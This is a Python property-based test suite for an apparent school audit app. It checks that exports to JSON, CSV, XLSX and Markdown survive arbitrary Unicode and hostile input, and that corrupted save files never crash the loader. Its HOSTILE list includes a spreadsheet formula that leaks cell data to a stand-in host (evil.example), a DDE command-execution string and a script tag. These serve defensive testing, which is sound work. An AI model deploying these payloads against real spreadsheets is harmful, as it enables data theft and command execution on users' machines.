"""Property-based checks: any ratings and any Unicode survive; hostile and broken input never crashes."""

from __future__ import annotations

import csv
import io
import json

import openpyxl
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from audit_app import bridge, exports, savefile
from audit_app.export_xlsx import cell_text
from audit_app.formula_guard import neutralise, restore
from audit_app.model import RESPONSE_TEXT_FIELDS, Audit, Details, Response

from .support import FRAMEWORK, STATEMENT_IDS, SUBSECTION_IDS, audit_with, saved

# No example database: the suite should leave nothing behind in the working tree.
PROPERTY_SETTINGS = settings(max_examples=60, deadline=None, database=None, suppress_health_check=[HealthCheck.too_slow])

HOSTILE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"Click me")',
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "+44 20 7946 0000",
    "-2+3",
    "\t=1+1",
    "\r\n=1+1",
    "'=already quoted",
    "<script>alert('x')</script>",
    "x" * 10_000,
    "Great progress 🎉👩🏽‍🏫✅",
    "التقييم الذاتي للمدرسة",
    "‏שלום עולם‎ mixed RTL",
    'quotes " and , commas\nand new lines',
    "| pipes | and # hashes",
]

text_values = st.one_of(st.sampled_from(HOSTILE), st.text(max_size=200))
ratings = st.sampled_from([None, *(rating.id for rating in FRAMEWORK.ratings)])


@st.composite
def audits(draw, text=text_values) -> Audit:
    responses = {}
    for statement_id in STATEMENT_IDS:
        if draw(st.booleans()):
            responses[statement_id] = Response(rating=draw(ratings), **{key: draw(text) for key in RESPONSE_TEXT_FIELDS})
    notes = {subsection_id: draw(text) for subsection_id in SUBSECTION_IDS if draw(st.booleans())}
    return audit_with(
        responses={key: vars(value) for key, value in responses.items()},
        details=Details(school=draw(text), date=draw(text), completed_by=draw(text)),
        notes=notes,
    )


@PROPERTY_SETTINGS
@given(audits(text=st.text(max_size=300)))
def test_export_then_import_gives_an_identical_audit_for_any_ratings_and_unicode_notes(audit):
    text = exports.render(FRAMEWORK, audit, "json")
    result = savefile.load(text.encode("utf-8"), FRAMEWORK)
    assert result.ok, result.problems
    assert result.audit == audit
    # and the same through the browser bridge
    assert json.loads(bridge.load_saved(text))["audit"] == json.loads(text)


@PROPERTY_SETTINGS
@given(st.text())
def test_neutralise_then_restore_gives_back_any_text(text):
    guarded = neutralise(text)
    assert restore(guarded) == text
    assert not guarded or guarded[0] not in "=+-@\t\r\n"


def _all_red_with(value: str) -> Audit:
    fields = {key: value for key in RESPONSE_TEXT_FIELDS}
    return audit_with({STATEMENT_IDS[0]: "red"}, responses={STATEMENT_IDS[0]: fields}, details=Details(school=value), notes={SUBSECTION_IDS[0]: value})


@PROPERTY_SETTINGS
@given(text_values)
def test_hostile_strings_survive_csv_as_text(value):
    text = exports.render(FRAMEWORK, _all_red_with(value), "csv")
    rows = list(csv.reader(io.StringIO(text.removeprefix("\ufeff"), newline="")))
    assert len(rows) == 2
    assert all(not cell or cell[0] not in "=+-@\t\r\n" for cell in rows[1])
    assert [restore(cell) for cell in rows[1][6:]] == [value] * len(RESPONSE_TEXT_FIELDS)


@PROPERTY_SETTINGS
@given(text_values)
def test_hostile_strings_survive_xlsx_as_text(value):
    book = openpyxl.load_workbook(io.BytesIO(exports.render(FRAMEWORK, _all_red_with(value), "xlsx")))
    cells = list(book["Action plan"].iter_rows(min_row=2))[0][6:]
    for cell in cells:
        assert cell.data_type == "s" or (cell.value is None and value == "")
        assert restore(cell.value or "") == cell_text(value)
    summary = {row[0].value: row[1] for row in book["Summary"].iter_rows() if row[0].value == "School"}
    assert restore(summary["School"].value or "") == cell_text(value)
    if value in HOSTILE and "\r" not in value:
        assert cell_text(value) == value  # the hostile examples survive exactly


@PROPERTY_SETTINGS
@given(text_values)
def test_hostile_strings_survive_json_and_markdown(value):
    audit = _all_red_with(value)
    assert savefile.load(exports.render(FRAMEWORK, audit, "json"), FRAMEWORK).audit == audit
    md = exports.render(FRAMEWORK, audit, "md")
    assert "\n<script" not in md and "\n# " not in md.replace("\n# Relational Approaches Audit", "")


VALID = saved(audit_with({"safe-ethos-1": "amber", "safe-practice-2": "red"}, responses={"safe-ethos-1": {"evidence": "Survey 🎉"}}))


def _never_raises(data) -> savefile.LoadResult:
    result = savefile.load(data, FRAMEWORK)
    assert result.ok != bool(result.problems)
    assert all(isinstance(problem, str) and problem for problem in result.problems)
    json.loads(bridge.load_saved(data))  # the bridge answer is always JSON
    return result


@PROPERTY_SETTINGS
@given(st.integers(min_value=0, max_value=len(VALID.encode("utf-8")) - 2))
def test_a_truncated_file_returns_problems(cut):
    result = _never_raises(VALID.encode("utf-8")[:cut])
    assert not result.ok


@PROPERTY_SETTINGS
@given(st.lists(st.tuples(st.integers(min_value=0, max_value=len(VALID) - 1), st.binary(min_size=0, max_size=3)), min_size=1, max_size=5))
def test_a_byte_mutated_file_never_raises(mutations):
    data = bytearray(VALID.encode("utf-8"))
    for position, replacement in mutations:
        data[position : position + 1] = replacement
    _never_raises(bytes(data))


json_values = st.recursive(
    st.none() | st.booleans() | st.integers() | st.floats(allow_nan=True) | st.text(max_size=30),
    lambda children: st.lists(children, max_size=4) | st.dictionaries(st.text(max_size=10), children, max_size=4),
    max_leaves=12,
)


@st.composite
def mutated_structures(draw):
    """A valid saved audit with one value somewhere replaced by arbitrary JSON."""
    raw = json.loads(VALID)
    paths = [("schema",), ("framework",), ("framework", "id"), ("framework", "version"), ("details",), ("details", "school"), ("responses",), ("subsection_notes",), ("subsection_notes", "safe-ethos")]
    paths += [("responses", sid) for sid in STATEMENT_IDS[:3]] + [("responses", "safe-ethos-1", key) for key in ("rating", *RESPONSE_TEXT_FIELDS)]
    paths += [("responses", draw(st.text(max_size=12)))]
    path = draw(st.sampled_from(paths))
    target = raw
    for key in path[:-1]:
        target = target[key]
    target[path[-1]] = draw(json_values)
    return raw


@PROPERTY_SETTINGS
@given(mutated_structures())
def test_a_structurally_mutated_file_never_raises(raw):
    _never_raises(json.dumps(raw))
    json.loads(bridge.score(json.dumps(raw)))
    json.loads(bridge.plan(json.dumps(raw)))


@PROPERTY_SETTINGS
@given(st.sampled_from(["belonging-audit/0", "belonging-audit/2", "belonging-audit/x", "", None, 1, ["belonging-audit/1"]]))
def test_a_wrong_schema_returns_one_problem(schema):
    raw = json.loads(VALID)
    raw["schema"] = schema
    assert len(_never_raises(json.dumps(raw)).problems) == 1


def test_an_oversized_file_returns_a_problem_without_parsing():
    big = VALID[:-2] + ', "padding": "' + "x" * savefile.MAX_FILE_BYTES + '"}'
    assert _never_raises(big).problems[0].startswith("The file is too large")
    assert _never_raises(big.encode()).problems[0].startswith("The file is too large")
